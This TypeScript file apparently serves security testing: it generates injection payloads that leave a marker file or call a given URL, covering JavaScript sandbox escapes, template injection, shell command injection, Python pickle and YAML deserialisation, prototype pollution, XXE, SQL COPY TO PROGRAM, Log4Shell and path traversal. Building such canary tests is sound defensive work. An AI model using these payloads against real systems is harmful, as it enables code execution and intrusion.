interface Marks {
  file: string;
  url: string;
}

/** Texts that would run as code, or as a command, wherever a text is taken for more than that. Each leaves a mark: a file, or a call. */
export function escapePayloads(marks: Marks): string[] {
  return [...javascript(marks), ...templates(marks), ...shells(marks), ...python(marks), ...data(marks)];
}

const build = (file: string) => `process.mainModule.require('fs').writeFileSync('${file}','x')`;

function javascript({ file, url }: Marks): string[] {
  const write = `require('fs').writeFileSync('${file}','x')`;
  return [
    write,
    build(file),
    `import('fs').then(f=>f.writeFileSync('${file}','x'))`,
    `(()=>{}).constructor("${build(file)}")()`,
    `[].constructor.constructor("${build(file)}")()`,
    `"".sub.constructor("${build(file)}")()`,
    `this.constructor.constructor("return process")().mainModule.require("fs").writeFileSync("${file}","x")`,
    `Reflect.construct(Function,["${build(file)}"])()`,
    `Reflect.getPrototypeOf(async()=>{}).constructor("${build(file)}")()`,
    `new Proxy({}, {get(){${build(file)}}}).x`,
    `fetch('${url}')`,
    `globalThis.process.binding('spawn_sync')`,
    `try{null.x}catch(e){e.constructor.constructor("${build(file)}")()}`,
    `Error.prepareStackTrace=(_,s)=>s[0].getThis().constructor.constructor("${build(file)}")()`,
    `\`\${${build(file)}}\``,
  ];
}

function templates({ file }: Marks): string[] {
  const shell = `touch ${file}`;
  const forms = ["{{%s}}", ["$", "{%s}"].join(""), "#{%s}", "<%%= %s %%>", "{%% %s %%}", "{{=%s}}", "[[%s]]", "@(%s)", "*{%s}", "{%s}"].map(
    (form) => form.replaceAll("%%", "%").replace("%s", build(file)),
  );
  return [
    ...forms,
    `{{ ''.__class__.__mro__[1].__subclasses__() }}`,
    `{{ cycler.__init__.__globals__.os.popen('${shell}').read() }}`,
    `{{ self.__init__.__globals__.__builtins__.__import__('os').system('${shell}') }}`,
    `{{constructor.constructor("${build(file)}")()}}`,
    `{{$on.constructor("${build(file)}")()}}`,
    `#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("${shell}"))`,
    `\${T(java.lang.Runtime).getRuntime().exec("${shell}")}`,
  ];
}

function shells({ file, url }: Marks): string[] {
  const shell = `touch ${file}`;
  return [
    `; ${shell}`,
    `| ${shell}`,
    `&& ${shell}`,
    `$(${shell})`,
    `\`${shell}\``,
    `\n${shell}\n`,
    `'; ${shell} #`,
    `"; ${shell} #`,
    `--checkpoint-action=exec=${shell}`,
    `() { :;}; ${shell}`,
    `curl ${url}`,
    `%0a${encodeURIComponent(shell)}`,
  ];
}

function python({ file }: Marks): string[] {
  const shell = `touch ${file}`;
  return [
    `__import__('os').system('${shell}')`,
    `eval(compile("open('${file}','w')","","exec"))`,
    `exec("open('${file}','w')")`,
    `ctypes.CDLL(None).system(b'${shell}')`,
    `!!python/object/apply:os.system ["${shell}"]`,
    `cos\nsystem\n(S'${shell}'\ntR.`,
    Buffer.from(`\x80\x04cposix\nsystem\n(S'${shell}'\ntR.`).toString("base64"),
  ];
}

function data({ file, url }: Marks): string[] {
  const shell = `touch ${file}`;
  return [
    `{"__proto__":{"shell":"${shell}"}}`,
    `{"constructor":{"prototype":{"argv0":"${shell}"}}}`,
    `{"rce":"_$$ND_FUNC$$_function(){${build(file)}}()"}`,
    `!!js/function "function(){${build(file)}}"`,
    `<!DOCTYPE x [<!ENTITY e SYSTEM "${url}">]><x>&e;</x>`,
    `'; COPY (SELECT 'x') TO '${file}'; --`,
    `'; COPY (SELECT 1) TO PROGRAM '${shell}'; --`,
    `\${jndi:ldap://${new URL(url).host}/a}`,
    url,
    `file://${file}`,
    `../../../../..${file}`,
  ];
}
